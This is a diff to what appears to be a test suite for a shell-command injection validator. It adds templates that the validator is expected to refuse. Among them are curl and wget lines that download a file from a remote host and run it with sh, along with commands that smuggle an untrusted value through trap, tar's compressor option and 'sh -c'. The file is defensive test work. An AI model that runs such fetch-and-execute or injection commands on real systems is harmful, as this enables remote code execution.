@@ -125,6 +125,7 @@ REFUSED = {
         ": ${a:={{state.x}}}; $a",
         "printf -v a %s {{state.x}}; $a",
         "env - {{state.x}}",
+        "trap '$a' EXIT; a={{state.x}}",
         '"$SUDO" {{state.x}}',
         "${SUDO:-sudo} {{state.x}}",
         "numactl -N 0 {{state.x}}",
@@ -221,6 +222,7 @@ REFUSED = {
         "env --split-string={{state.x}}",
         "rsync -ae {{state.x}} a b",
         "tar -xI{{state.x}} -f a",
+        "tar --use-comp={{state.x}} -cf a b",
         "git clone -u {{state.x}} a",
         "git clone --template={{state.x}} a",
         "git clone --config core.pager={{state.x}} a",
@@ -247,6 +249,8 @@ REFUSED = {
         "echo a{{state.x}} > {{state.x}} && ./deploy",
         "git clone h:{{state.x}} d && d/a",
         "cp {{state.x}} a.mk && make -f a.mk",
+        "curl -sSo a https://h/{{state.x}}; sh a",
+        "wget -Oa https://h/{{state.x}}; sh a",
     ],
     "which other programs run": [
         "echo {{state.x}} > Makefile",
@@ -266,6 +270,7 @@ REFUSED = {
         "echo `a {{state.x}}",
     ],
     "here-document": ["cat <<E\n{{state.x}}"],
+    "behind an option": ["sh -c -- {{state.x}}", "bash -c -x '{{state.x}} a'"],
     "in backticks": ["echo `echo \\`{{state.x}}\\``", "echo `a '` {{state.x}} `'`"],
     "an index with blanks": ["declare -A a; a[b c]=2 {{state.x}}"],
 }
@@ -323,6 +328,8 @@ DIGITS = [
     "awk '{ print | \"{{state.x}}\" }' f",
     "awk '{ \"{{state.x}}\" | getline }' f",
     "integer a={{state.x}}",
+    "a=([{{state.x}}]=1)",
+    "a={{state.x}}; b=([$a]=1)",
 ]
 
 
@@ -497,6 +504,7 @@ LONG = {
     "braces": "${" * 9_000,
     "arrays": "a=(" * 6_000,
     "documents": "cat <<E\n" * 2_000,
+    "evaluations": "eval ssh a " * 1_500,
     "words": "echo a " + "a=$a " * 3_000,
 }
 
